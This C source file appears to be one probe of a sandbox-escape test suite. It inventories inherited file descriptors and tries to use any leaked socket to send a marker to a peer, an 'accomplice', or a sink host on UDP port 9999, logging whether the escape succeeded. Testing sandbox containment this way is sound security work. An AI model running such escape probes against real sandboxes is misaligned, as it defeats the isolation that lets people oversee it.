/* escape_fds.c - E11, the inventory of inherited file descriptors (split
 * from escape.c): every fd beyond 0-2 is typed, and any socket among them
 * is used to put the marker where a witness sees it. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/sockios.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include "escape_fds.h"

static const char *family_name(int d)
{
	switch (d) {
	case AF_UNIX:
		return "AF_UNIX";
	case AF_INET:
		return "AF_INET";
	case AF_INET6:
		return "AF_INET6";
	case AF_NETLINK:
		return "AF_NETLINK";
	case AF_PACKET:
		return "AF_PACKET";
	default:
		return "other";
	}
}

/* Use an inherited socket: whatever it can do, it does with the marker. */
static int use_socket(const struct attack_env *env, struct attack_log *log, int fd, int dom,
		      int type)
{
	int listening = 0, r, err;
	socklen_t ol = sizeof(listening);
	struct sockaddr_storage peer, me;
	socklen_t pl = sizeof(peer), ml = sizeof(me);
	ssize_t n;

	getsockopt(fd, SOL_SOCKET, SO_ACCEPTCONN, &listening, &ol);
	r = getpeername(fd, (struct sockaddr *)&peer, &pl);
	err = errno;
	attack_step(log, "getpeername", r, err, "fd %d", fd);
	if (r == 0) {
		n = attack_send_marker(env, fd, "E11");
		err = errno;
		attack_step(log, "send", n, err, "fd %d: marker to its peer", fd);
		return n > 0 ? CLAIM_ESCAPED : CLAIM_BLOCKED;
	}
	if (listening && (dom == AF_INET || dom == AF_INET6) &&
	    getsockname(fd, (struct sockaddr *)&me, &ml) == 0) {
		char port[8];
		struct pollfd p = {.fd = fd, .events = POLLIN};
		int c;
		snprintf(port, sizeof(port), "%u",
			 ntohs(dom == AF_INET ? ((struct sockaddr_in *)&me)->sin_port
					      : ((struct sockaddr_in6 *)&me)->sin6_port));
		attack_request_accomplice(log, dom == AF_INET ? "tcp" : "tcp6", port);
		r = poll(&p, 1, 2000);
		err = errno;
		attack_step(log, "poll", r, err, "fd %d: wait for the accomplice on port %s", fd,
			    port);
		if (r <= 0)
			return CLAIM_BLOCKED;
		c = accept4(fd, NULL, NULL, SOCK_CLOEXEC);
		err = errno;
		attack_step(log, "accept4", c, err, "fd %d", fd);
		if (c < 0)
			return CLAIM_BLOCKED;
		n = attack_send_marker(env, c, "E11");
		err = errno;
		attack_step(log, "send", n, err, "marker to the accomplice");
		close(c);
		return n > 0 ? CLAIM_ESCAPED : CLAIM_BLOCKED;
	}
	if (type == SOCK_DGRAM && (dom == AF_INET || dom == AF_INET6)) {
		struct sockaddr_storage ss;
		socklen_t len =
		    attack_sockaddr(dom == AF_INET ? env->sink_v4 : env->sink_v6, 9999, &ss);
		char buf[256];
		int m = attack_marker_payload(env, "E11", buf, sizeof(buf));
		n = sendto(fd, buf, (size_t)m, 0, (struct sockaddr *)&ss, len);
		err = errno;
		attack_step(log, "sendto", n, err, "fd %d: marker to the sink's 9999/udp", fd);
		return n > 0 ? CLAIM_ESCAPED : CLAIM_BLOCKED;
	}
	attack_note(log, "fd %d: neither connected, listening (inet) nor a datagram socket", fd);
	return CLAIM_BLOCKED;
}

int escape_inherited_fds(const struct attack_env *env, struct attack_log *log)
{
	struct stat mynet;
	DIR *d = opendir("/proc/self/fd");
	int err = errno, claim = CLAIM_BLOCKED, extra = 0;
	struct dirent *de;

	attack_step(log, "opendir", d ? 0 : -1, err, "/proc/self/fd");
	if (!d)
		return CLAIM_UNSURE;
	if (stat("/proc/self/ns/net", &mynet) < 0)
		mynet.st_ino = 0;
	while ((de = readdir(d))) {
		char path[64], target[256], fdinfo[512];
		int fd, dom = -1, type = -1, proto = -1;
		ssize_t n;
		socklen_t ol = sizeof(int);
		if (de->d_name[0] == '.')
			continue;
		fd = atoi(de->d_name);
		if (fd == dirfd(d))
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		n = readlink(path, target, sizeof(target) - 1);
		err = errno;
		target[n > 0 ? n : 0] = 0;
		attack_step(log, "readlink", n, err, "fd %d -> %s", fd, target);
		if (fd <= 2)
			continue;
		extra++;
		snprintf(path, sizeof(path), "/proc/self/fdinfo/%d", fd);
		{
			int i = open(path, O_RDONLY | O_CLOEXEC);
			ssize_t k = i >= 0 ? read(i, fdinfo, sizeof(fdinfo) - 1) : -1;
			fdinfo[k > 0 ? k : 0] = 0;
			for (char *c = fdinfo; *c; c++)
				if (*c == '\n' || *c == '\t')
					*c = ' ';
			if (i >= 0)
				close(i);
		}
		attack_note(log, "fd %d fdinfo: %.300s", fd, fdinfo);
		if (strncmp(target, "socket:", 7) != 0)
			continue;
		getsockopt(fd, SOL_SOCKET, SO_DOMAIN, &dom, &ol);
		ol = sizeof(int);
		getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &ol);
		ol = sizeof(int);
		getsockopt(fd, SOL_SOCKET, SO_PROTOCOL, &proto, &ol);
		{
			int nsfd = ioctl(fd, SIOCGSKNS);
			struct stat st;
			err = errno;
			attack_step(log, "ioctl", nsfd, err, "fd %d SIOCGSKNS: %s type %d proto %d",
				    fd, family_name(dom), type, proto);
			if (nsfd >= 0) {
				if (fstat(nsfd, &st) == 0)
					attack_note(log, "fd %d: netns inode %lu, ours %lu%s", fd,
						    st.st_ino, mynet.st_ino,
						    st.st_ino != mynet.st_ino
							? ": a socket from another netns"
							: "");
				close(nsfd);
			}
		}
		if (use_socket(env, log, fd, dom, type) == CLAIM_ESCAPED)
			claim = CLAIM_ESCAPED;
	}
	closedir(d);
	attack_note(log, "%d fd(s) beyond 0-2%s", extra,
		    extra ? "" : ": nothing inherited, nothing to use (no witness can see this)");
	return claim;
}
